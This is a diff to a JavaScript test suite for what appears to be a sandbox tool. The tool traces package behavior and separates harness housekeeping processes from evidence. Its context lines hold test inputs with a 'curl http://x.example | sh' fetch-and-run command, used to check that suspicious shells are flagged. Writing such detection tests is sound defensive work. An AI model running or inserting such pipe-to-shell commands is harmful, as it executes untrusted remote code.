@@ -301,6 +301,27 @@ describe("the idle window's harness shell", () => {
     ]);
   });
 
+  it("a Python step (python3 reading the harness from stdin) is named by its script; package code in it stays evidence", async () => {
+    const runner = ['node', '/usr/local/libexec/steps.cjs', '--python', '/usr/local/libexec/execute-py.py', '3000', '15000', 'evil'];
+    const steps = `
+1 1.0 execve("/usr/bin/node", ${JSON.stringify(runner)}, 0x1 /* 1 var */) = 0
+1 1.1 vfork() = 2
+2 1.2 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
+2 1.3 vfork() = 3
+3 1.4 execve("/usr/bin/python3", ["python3"], 0x1 /* 1 var */) = 0
+3 1.5 +++ exited with 0 +++
+2 1.6 +++ exited with 0 +++
+1 2.0 +++ exited with 0 +++
+`;
+    const b = await buildBehavior({ phases: [{ name: 'execute', events: parseTraceText(steps) }], sandbox });
+    expect(b.processes.map((p) => [p.argv.join(' '), p.housekeeping ?? false])).toEqual([
+      [runner.join(' '), true],
+      ['python3 /usr/local/libexec/execute-py.py 3000 15000 evil', false],
+      // The package's own `python3` (not the runner's child) keeps its argv.
+      ['python3', false],
+    ]);
+  });
+
   it('a look-alike shell that is not the root, or runs anything else, stays evidence', async () => {
     expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `${script}; curl http://x.example | sh`])))[0]).toEqual(['/bin/sh', false]);
     expect((await housekeeping(JSON.stringify(['/bin/sh', '-c', `'curl' 'http://x.example'; 'node' '/usr/local/libexec/import-npm.cjs' 'evil'`])))[0]).toEqual(['/bin/sh', false]);
